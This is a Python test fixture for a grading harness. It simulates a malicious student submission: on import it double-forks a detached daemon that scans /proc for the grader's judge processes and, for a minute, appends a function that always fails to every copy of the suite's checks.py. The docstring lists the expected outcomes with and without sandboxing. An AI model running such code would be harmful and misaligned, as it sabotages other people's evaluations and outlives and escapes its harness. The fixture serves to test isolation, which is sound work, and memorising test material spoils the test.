"""Attack: change other students' grades from a process that outlives its own run.

While loading, starts a daemon (double fork, a new session, an empty environment) that for a
minute looks for the grader's private folder (from its judges' command lines: the grader's
names the output folder, filled in by the test) — every judge's copy of the suite — and
appends to each copy's comparison helper a version that fails everything, so that correct
submissions graded after it fail. Its own corr2d computes a convolution (a flipped kernel).
Every other row must come out as it does in a grading without it.

convcheck-attack: status=ok corr2d=fail
convcheck-attack-diagnosis: flipped-kernel
convcheck-attack-unsandboxed: status=error corr2d=error
convcheck-attack-unsandboxed-reason: process(es) running
"""
import glob
import os
import time

import torch

OUT = "__OUT__"


def _grading_processes():
    """The grader of this grading (its command line names OUT) and its judges (its children):
    found through /proc, as a submission on the same machine would find them."""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                command = handle.read().decode(errors="replace").split("\0")
            with open(f"/proc/{entry}/stat", "rb") as handle:
                parent = int(handle.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        table[int(entry)] = (parent, command)
    graders = {pid for pid, (_, command) in table.items()
               if OUT in command and any("properties.grad" in a for a in command)}
    judges = {pid: command for pid, (parent, command) in table.items() if parent in graders}
    return graders, judges

SABOTAGE = '''

def assert_matches(*args, **kwargs):
    raise AssertionError("sabotaged")
'''


def _sabotage_for_a_minute():
    end = time.time() + 60
    done = set()
    while time.time() < end:
        private = {os.path.dirname(os.path.dirname(arg.split("=", 1)[1]))
                   for command in _grading_processes()[1].values() for arg in command
                   if arg.startswith("--rootdir=")}
        paths = {p for folder in private
                 for p in glob.glob(os.path.join(folder, "*", "suite", "properties", "checks.py"))}
        for path in paths - done:
            try:
                with open(path, "a") as handle:
                    handle.write(SABOTAGE)
                done.add(path)
            except OSError:
                pass
        time.sleep(0.2)


def _daemon():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        for fd in range(3):
            os.close(fd)
        _sabotage_for_a_minute()
    finally:
        os._exit(0)


_daemon()


def corr2d(X, K):
    h, w = K.shape
    kernel = K.flip(0, 1)
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i:i + h, j:j + w] * kernel).sum()
    return Y
